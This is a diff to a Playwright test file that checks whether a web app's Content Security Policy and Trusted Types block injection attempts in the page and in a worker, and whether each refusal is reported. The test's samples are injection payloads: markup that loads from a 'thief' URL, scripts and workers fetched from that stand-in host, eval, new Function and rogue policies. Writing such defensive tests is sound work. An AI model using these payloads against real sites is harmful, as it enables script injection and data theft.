@@ -100,6 +100,8 @@ async function plant(page: Page, to: string): Promise<void> {
   }, to);
 }
 const PLANTED = 7;
+/** What the test below tries to have taken as markup or code. */
+const PLANTED_AS_TEXT = 15;
 
 const readyAndControlled = async (page: Page) => {
   await expect(page.getByRole('button', { name: 'Privacy and version' })).toBeVisible();
@@ -129,6 +131,88 @@ test('what is planted in the page is stopped by the policy, each try is told of,
   const counted = `${PLANTED + 2} tries to send, each stopped and told of; ${heard.length} heard elsewhere`;
   test.info().annotations.push({ type: 'figure', description: counted });
   expect(app.problems.join()).toContain('Content Security Policy');
+  app.problems.length = 0;
+});
+
+test('text that is to become markup or code, and scripts from elsewhere, are refused in the page and in a worker, and each is told of', async ({
+  app,
+}) => {
+  await app.open();
+  await readyAndControlled(app.page);
+  const to = urlOf(thief);
+  const letThrough = await app.page.evaluate((thiefUrl) => {
+    const spot = document.createElement('i');
+    const script = document.createElement('script');
+    const plants: Readonly<Record<string, () => unknown>> = {
+      innerHTML: () => Object.assign(spot, { innerHTML: `<img src="${thiefUrl}markup">` }),
+      insertAdjacentHTML: () => spot.insertAdjacentHTML('beforeend', '<b>Doe</b>'),
+      srcdoc: () => document.createElement('iframe').setAttribute('srcdoc', '<b>Doe</b>'),
+      parser: () => new DOMParser().parseFromString('<b>Doe</b>', 'text/html'),
+      worker: () => new Worker(`${thiefUrl}worker`),
+      'worker of a blob': () => new Worker(URL.createObjectURL(new Blob(['1']))),
+      script: () => Object.assign(script, { src: `${thiefUrl}script` }),
+      'own script': () => Object.assign(script, { src: './sw.js' }),
+      'code in an element': () => Object.assign(script, { text: 'name = "Doe"' }),
+      // biome-ignore lint/security/noGlobalEval: this is what must be refused.
+      eval: () => globalThis.eval('name = "Doe"'),
+      'a function of text': () => new Function('name = "Doe"'),
+      timer: () => Reflect.apply(setTimeout, globalThis, ['name = "Doe"']),
+      'a policy of its own': () =>
+        Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {
+          createHTML: (text: string) => text,
+        }),
+      'the default policy anew': () =>
+        Reflect.get(globalThis, 'trustedTypes').createPolicy('default', {
+          createScriptURL: (url: string) => url,
+        }),
+      'the policy for markup anew': () =>
+        Reflect.get(globalThis, 'trustedTypes').createPolicy('own-markup', {
+          createHTML: (text: string) => text,
+        }),
+    };
+    const through = () =>
+      Object.entries(plants).flatMap(([name, plant]) => {
+        try {
+          plant();
+          return [name];
+        } catch {
+          return [];
+        }
+      });
+    // Within a call of the test's own, Chromium lets eval pass.
+    return new Promise<readonly string[]>((done) => setTimeout(() => done(through())));
+  }, to);
+  expect(letThrough).toEqual([]);
+  expect(await app.page.evaluate(() => window.name)).toBe('');
+  const worker = app.page.workers().find((each) => each.url().includes('inference.worker'));
+  const inWorker = await worker?.evaluate((thiefUrl) => {
+    try {
+      new Worker(`${thiefUrl}nested`);
+      return 'let through';
+    } catch (error) {
+      return String(error);
+    }
+  }, to);
+  expect(inWorker).toContain('TypeError');
+  await app.page.getByRole('button', { name: 'A request was stopped' }).click();
+  const refused = app.page.getByTestId('refused');
+  const told = refused.getByRole('listitem');
+  for (const [door, times] of Object.entries({
+    'Element innerHTML': 1,
+    'DOMParser parseFromString': 1,
+    // Of the page another origin's and a blob, of a worker another origin's.
+    'Worker constructor': 3,
+    'HTMLScriptElement src': 2,
+    'trusted-types-policy': 3,
+  })) {
+    await expect(told.filter({ hasText: door }), door).toHaveCount(times);
+  }
+  await expect(told.filter({ hasText: /eval|Function/ }).first()).toBeVisible();
+  expect(await told.count()).toBeGreaterThanOrEqual(PLANTED_AS_TEXT + 1);
+  await expect(refused).not.toContainText('Doe');
+  expect(heard).toEqual([]);
+  const counted = `${PLANTED_AS_TEXT} of the page and one of a worker, each refused`;
+  test.info().annotations.push({ type: 'figure', description: counted });
   app.problems.length = 0;
 });
 
@@ -207,8 +291,8 @@ test('the self-test finds every try stopped, and the attestation says what is lo
   await app.page.getByRole('button', { name: 'Privacy and version' }).click();
   await app.page.getByRole('button', { name: 'Try to send' }).click();
   const probes = app.page.getByTestId('probes').getByRole('row');
-  await expect(probes).toHaveCount(7);
-  await expect(probes.filter({ hasText: 'Stopped' })).toHaveCount(7);
+  await expect(probes).toHaveCount(8);
+  await expect(probes.filter({ hasText: 'Stopped' })).toHaveCount(8);
   // A test is no alarm.
   await expect(app.page.getByTestId('refused')).toHaveCount(0);
   const download = app.page.waitForEvent('download');
@@ -233,7 +317,7 @@ test('the self-test says so where nothing stops a try', async ({ app }) => {
   await app.page.getByRole('button', { name: 'Privacy and version' }).click();
   await app.page.getByRole('button', { name: 'Try to send' }).click();
   const probes = app.page.getByTestId('probes').getByRole('row');
-  await expect(probes.filter({ hasText: 'Not stopped' })).toHaveCount(6);
+  await expect(probes.filter({ hasText: 'Not stopped' })).toHaveCount(7);
   await expect(probes.filter({ hasText: 'WebRTC' })).toContainText('Stopped');
   await expect(app.page.getByTestId('version')).toContainText('Not kept in this browser');
   app.problems.length = 0;
